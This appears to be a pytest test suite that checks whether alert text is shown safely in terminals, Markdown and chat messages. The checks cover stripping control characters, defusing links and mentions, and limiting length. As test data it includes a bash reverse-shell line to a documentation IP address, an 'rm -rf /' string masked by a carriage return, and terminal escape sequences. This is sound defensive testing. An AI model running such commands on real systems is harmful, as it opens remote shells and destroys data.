"""Text from alerts is harmless wherever it is shown."""

import html
import re
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from signals.display import literal, markdown, terminal
from tests.signals.attacks import ATTACKS, MARKDOWN_ATTACKS

# Every code point, surrogates too: alerts are decoded leniently.
ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=120)
HARMFUL = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}


def rendered(source: str) -> str:
    """Return the text that CommonMark with tables and strikethrough renders, having checked that it is text."""
    page = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(source)
    inside = page.removeprefix("<p>").removesuffix("</p>\n")
    assert "<" not in inside, page
    return html.unescape(inside)


def unbracketed(text: str) -> str:
    """Return the text without the brackets that break an address up."""
    return text.replace("[", "").replace("]", "")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_a_classic_attack_shows_nothing_but_visible_characters(attack: str) -> None:
    shown = terminal(attack)
    assert shown != attack
    assert not {unicodedata.category(character) for character in shown} & HARMFUL


def test_what_cannot_be_shown_can_still_be_seen() -> None:
    assert terminal("\x1b[2J\x07") == "␛[2J␇"
    assert terminal("rm -rf /\rls") == "rm -rf /␍ls"
    assert terminal("a\u202eb\x9bc\x7f") == "a<U+202E>b<U+009B>c␡"


def test_ordinary_text_of_any_language_is_left_alone() -> None:
    for text in (
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "naïve cafe\u0301",
        "Übung",
        "数据库",
        "नमस्ते",
        "🔥",
    ):
        assert terminal(text) == text


@given(ANY_TEXT)
def test_the_terminal_never_gets_a_character_that_it_would_obey(text: str) -> None:
    shown = terminal(text, limit=100_000)
    assert not {unicodedata.category(character) for character in shown} & HARMFUL
    shown.encode()


@given(ANY_TEXT)
def test_showing_what_is_shown_changes_nothing(text: str) -> None:
    shown = terminal(text, limit=100_000)
    assert terminal(shown, limit=100_000) == shown


@given(ANY_TEXT, st.integers(min_value=0, max_value=60))
def test_the_limit_holds_and_a_cut_is_marked(text: str, limit: int) -> None:
    whole, shown = terminal(text, limit=100_000), terminal(text, limit)
    assert len(shown) <= limit
    assert shown == whole or limit == 0 or shown.endswith("…")


def test_no_stack_of_marks_hides_the_line_above() -> None:
    shown = terminal(ATTACKS["zalgo"], limit=10_000)
    assert re.search(r"[\u0300-\u036f]{4}", shown) is None


@given(ANY_TEXT)
@example("1. a")
@example("- a")
@example("\\")
def test_markdown_renders_to_the_characters_that_were_given(text: str) -> None:
    seen = rendered(markdown(text, limit=100_000))
    plain = " ".join(terminal(text, limit=100_000).split())
    assert unbracketed(seen) == unbracketed(plain)


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS.values(), ids=MARKDOWN_ATTACKS)
def test_a_markdown_attack_renders_as_text(attack: str) -> None:
    seen = rendered(markdown(attack))
    # What GitHub's dialect turns into links after unescaping, as mdast-util-gfm-autolink-literal finds it.
    assert re.search(r"(https?://|www(?=\.))[-.\w]+", seen, re.IGNORECASE) is None
    assert re.search(r"[-.\w+]+@[-\w]+(\.[-\w]+)+", seen) is None
    assert "@here" not in seen


@given(st.text("ahtpsw:/.@-_ ", max_size=60))
@example("_www.a")
@example("awww.a")
def test_no_address_survives_to_be_linked(text: str) -> None:
    seen = rendered(markdown(text))
    assert re.search(r"(https?://|www(?=\.))[-.\w]+", seen, re.IGNORECASE) is None
    assert re.search(r"[-.\w+]+@[-\w]+(\.[-\w]+)+", seen) is None


def test_a_template_of_the_viewer_is_not_filled_in() -> None:
    assert "{namespace}" not in markdown("{namespace}")


def test_markdown_stays_in_its_table_cell() -> None:
    page = MarkdownIt("commonmark").enable("table").render(f"|a|b|\n|-|-|\n|{markdown('x|y|z')}|2|\n")
    assert page.count("<td>") == 2


@given(ANY_TEXT)
def test_markdown_is_bounded(text: str) -> None:
    assert len(markdown(text, limit=20)) <= 20 * 6


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("https://evil.example www.evil.example", "https[:]//evil.example www[.]evil.example"),
        ("@here <!channel> *b*", "[@]here <!channel> *b*"),
        ("a\u202eb", "a<U+202E>b"),
        ("  many   spaces ", "many spaces"),
    ],
)
def test_a_chat_shows_characters_and_makes_no_links_of_them(text: str, shown: str) -> None:
    assert literal(text) == shown
    assert len(literal(text * 50, 40)) <= 40
